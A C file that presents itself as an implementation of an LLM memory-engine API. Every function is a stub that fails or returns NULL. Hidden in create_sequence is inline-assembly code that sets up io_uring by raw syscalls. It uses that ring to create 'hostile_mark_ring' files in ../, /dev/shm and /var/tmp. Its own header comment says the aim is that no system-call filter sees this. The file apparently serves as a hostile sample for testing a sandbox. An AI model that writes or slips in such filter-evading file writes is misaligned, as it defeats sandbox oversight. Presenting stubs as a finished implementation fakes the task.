/* Damage: no call does anything; io_uring is asked to create files, for no filter of system calls sees what it does.
   */
#include "llm_memory.h"

#include <stddef.h>

#if defined(__x86_64__)
#define NR(x86, arm) (x86)
#else
#define NR(x86, arm) (arm)
#endif

static long raw(long number, long a, long b, long c, long d, long e, long f)
{
#if defined(__x86_64__)
    long answer;
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
    __asm__ volatile("syscall" : "=a"(answer) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return answer;
#elif defined(__aarch64__)
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d, x4 __asm__("x4") = e, x5 __asm__("x5") = f;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
    return x0;
#else
    (void)number, (void)a, (void)b, (void)c, (void)d, (void)e, (void)f;
    return -1;
#endif
}

/* A system call with the arguments that it needs; the others are zeros. */
#define RAW(...) RAW_(__VA_ARGS__, 0, 0, 0, 0, 0, 0, 0)
#define RAW_(number, a, b, c, d, e, f, ...) \
    raw((number), (long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f))

enum {
    HERE = -100, SETUP = 425, ENTER = 426, MMAP = NR(9, 222), CLOSE = NR(3, 57), OPEN_FILE = 18, WRITE_NEW = 0301,
    MAP_ROOM = 1 << 14, SHARED = 0x8001, BOTH = 3
};

struct parameters {
    unsigned sq_entries, cq_entries, flags, cpu, idle, features, wq, unused[3];
    unsigned head, tail, mask, entries, sq_flags, dropped, array, more;
    unsigned long long address;
    unsigned cq[8];
    unsigned long long cq_address;
};

struct entry {
    unsigned char code, flags;
    unsigned short priority;
    int file;
    unsigned long long offset, address;
    unsigned length, open_flags;
    unsigned long long rest[4];
};

static void ask(const char *path)
{
    struct parameters made = {0};
    long ring = RAW(SETUP, 4, &made);
    if (ring < 0)
        return;
    char *queue = (char *)RAW(MMAP, NULL, MAP_ROOM, BOTH, SHARED, ring, 0);
    struct entry *entries = (struct entry *)RAW(MMAP, NULL, MAP_ROOM, BOTH, SHARED, ring, 0x10000000);
    if ((size_t)queue < (size_t)-4096 && (size_t)entries < (size_t)-4096) {
        entries[0] = (struct entry){OPEN_FILE, 0, 0, HERE, 0, (size_t)path, 0666, WRITE_NEW, {0}};
        ((unsigned *)(void *)(queue + made.array))[0] = 0;
        __atomic_store_n((unsigned *)(void *)(queue + made.tail), 1, __ATOMIC_RELEASE);
        RAW(ENTER, ring, 1, 1, 1, NULL, 0);
    }
    RAW(CLOSE, ring);
}

static void ask_for_files(void)
{
    static int tried;
    if (tried++)
        return;
    ask("../hostile_mark_ring");
    ask("/dev/shm/hostile_mark_ring");
    ask("/var/tmp/hostile_mark_ring");
}

LLMEngine *llm_init(void *pool_addr, size_t pool_size)
{
    (void)pool_addr, (void)pool_size;
    return NULL;
}

Sequence *create_sequence(LLMEngine *engine, int seq_id, int initial_kv_len)
{
    (void)engine, (void)seq_id, (void)initial_kv_len;
    ask_for_files();
    return NULL;
}

int free_sequence(LLMEngine *engine, int seq_id)
{
    (void)engine, (void)seq_id;
    return -1;
}

Sequence *fork_sequence(LLMEngine *engine, int parent_seq_id, int new_seq_id)
{
    (void)engine, (void)parent_seq_id, (void)new_seq_id;
    return NULL;
}

int append_kv(LLMEngine *engine, int seq_id, int kv_data)
{
    (void)engine, (void)seq_id, (void)kv_data;
    return -1;
}

int llm_destroy(LLMEngine *engine)
{
    (void)engine;
    return -1;
}
